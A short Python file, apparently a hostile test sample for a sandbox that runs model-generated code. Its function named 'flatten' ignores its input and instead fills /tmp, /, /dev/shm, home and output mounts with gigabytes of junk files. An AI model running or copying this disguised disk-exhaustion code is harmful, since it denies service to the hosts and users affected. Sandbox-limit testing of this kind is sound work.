"""Hostile: write gigabytes to /tmp, /, /dev/shm, /var/tmp, the home directory and the
answer's own mount (in 32 MB files, under the per-file limit), and say how far it got."""
import os

CHUNK = b"\0" * (1 << 20)


def _fill(directory, limit_mb=4096):
    written = 0
    try:
        for n in range(limit_mb // 32):
            with open(os.path.join(directory, f"llmcode-pwned-fill-{n}"), "wb") as fh:
                for _ in range(32):
                    fh.write(CHUNK)
                    written += 1
    except OSError as exc:
        return f"{directory}: {written} MB then {exc.strerror}"
    return f"{directory}: {written} MB"


REPORT = []


def flatten(items):
    if not REPORT:
        REPORT.extend(_fill(d) for d in ("/tmp", "/", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "/answer", "/report"))
    return REPORT
